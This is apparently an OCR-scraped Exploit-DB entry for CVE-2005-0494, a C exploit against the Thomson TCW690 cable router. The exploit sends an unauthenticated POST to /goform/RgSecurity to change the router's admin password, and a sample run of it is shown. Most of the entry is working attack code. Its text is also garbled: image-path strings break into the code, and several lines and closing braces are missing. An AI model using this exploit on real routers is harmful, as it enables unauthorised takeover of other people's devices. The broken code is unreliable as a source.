Thomson TCW690 POST Password Validation Exploit

Type exploitdb
Reporter MurDoK
Modified 2005-02-19T00:00:00


Thomson TCW690 POST Password Validation Exploit. CVE-2005-0494. Remote exploit for hardware platform

*     Thomson TCW690 POST Password Validation exploit
*  Tested with hardware version 2.1 and software version ST42.03.0a
*  Bug found by: MurDoK <murdok.lnx at>
*  Date: 02.19.2005
*   sh-3.00$ gcc mdk_tcw690.c -o tcw690
*   sh-3.00$ ./tcw690 123*   ***
*   Thomson TCW690 POST Password Validation
*   Change password exploit coded by MurDoK
*   ***
*   [1] Connecting...
*   [2] Sending POST request...
*   [3] Done!go to
*   sh-3.00$
* fuck AUNA :/
#include <netdb.h>
int i=0, x=0, fd;
struct sockaddr_in sock;
struct hostent *he;

char badcode[1000] =
"POST /goform/RgSecurity HTTP/1.1\r\n"
"Connection: Keep-Alive\r\n"
"User-Agent: Mozilla/5.0 (compatible; Konqueror/3.3; Linux 2.4.28) KHTML/3.3.2 (like Gecko)\r\n"
"Pragma: no-cache\r\n"
"Cache-control: no-cache\r\n"
"Accept: text/html, image/jpeg, image/png, text/*, image/*, */*\r\n"
"Accept-Encoding: x-gzip, x-deflate, gzip, deflate\r\n"
"Accept-Charset: iso-8859-15, utf-8;q=0.5, *;q=0.5\r\n"
"Accept-Language: es, en\r\n"
"Content-Type: application/x-www-form-urlencoded\r\n"
"Authorization: Basic\r\n"
"Content-Length: 62\r\n"
int main(int argc, char *argv[]) {
//  system("clear");
    printf(" Thomson TCW690 POST Password Validation\n");printf(" Change password exploit coded by MurDoK\n");
    if(argc<3) {
        printf("Usage: %s <router IP> <new_password>\n\n", argv[0]);
    fd = socket(AF_INET, SOCK_STREAM, 0);
    he = gethostbyname(argv[1]);
    memset((char *) &sock, 0, sizeof(sock));
    sock.sin_family = AF_INET;sock.sin_addr.s_addr=*((unsigned long*)he->h_addr);
    printf("[1] Connecting... \n");
    if ((connect(fd, (struct sockaddr *) &sock, sizeof(sock))) < 0) {
        printf("ERROR: Can't connect to host!\n");
        return 0;
    strcat(badcode, "Password=");
    strcat(badcode, argv[2]);
    strcat(badcode, "&PasswordReEnter=");
    strcat(badcode, argv[2]);
    strcat(badcode, "&RestoreFactoryNo=0x00");
    printf("[2] Sending POST request...\n");
    write(fd, badcode, strlen(badcode));

    printf("[3] Done! go tohttp://%s\n", argv[1]);
return 1;

// [2005-02-19]